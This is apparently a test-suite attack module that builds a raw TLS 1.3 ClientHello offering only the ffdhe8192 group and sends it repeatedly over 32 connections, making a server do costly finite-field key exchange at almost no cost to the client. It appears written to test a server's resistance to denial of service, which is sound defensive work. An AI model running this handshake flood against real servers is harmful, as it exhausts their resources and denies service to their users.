"""Handshakes over finite fields, which take a server hundreds of times as long as those over elliptic curves."""

from typing import Final

from tests.attacks import Attack
from tests.attacks.target import Target

CONNECTIONS = 32
KEYS: Final = {
    "prime256v1": (
        0x17,
        b"\4"
        + bytes.fromhex(
            "6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
            "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5"
        ),
    ),
    "ffdhe2048": (0x100, (4).to_bytes(256)),
    "ffdhe8192": (0x104, (4).to_bytes(1024)),
}
"""The numbers of groups, and a public key in each: a point of the curve, or a square, which is in the group."""


def hello(group: str) -> bytes:
    """Return the first message of a client that offers a single group (RFC 8446, section 4.1.2)."""

    def long(content: bytes, size: int = 2) -> bytes:
        return len(content).to_bytes(size) + content

    number, key = KEYS[group]
    extensions = {
        10: long(number.to_bytes(2)),  # groups
        13: long(b"\x04\x03\x08\x04"),  # signatures: ECDSA and RSA-PSS with SHA-256
        43: long(b"\x03\x04", 1),  # TLS 1.3
        51: long(number.to_bytes(2) + long(key)),
    }
    listed = b"".join(each.to_bytes(2) + long(content) for each, content in extensions.items())
    ciphers = long(b"\x13\x01\x13\x02")
    message = b"\x03\x03" + bytes(32) + long(b"", 1) + ciphers + long(b"\0", 1) + long(listed)
    return b"\x16\x03\x01" + long(b"\1" + long(message, 3))


def _run(target: Target) -> None:
    """Send the same message again and again, which takes the client no time."""
    message = hello("ffdhe8192")

    def once() -> None:
        with target.plain() as connection:
            connection.sendall(message)
            connection.recv(1 << 14)

    target.repeat(once, CONNECTIONS)


ATTACK = Attack(f"handshakes over finite fields, on {CONNECTIONS} connections", _run, seconds=4)
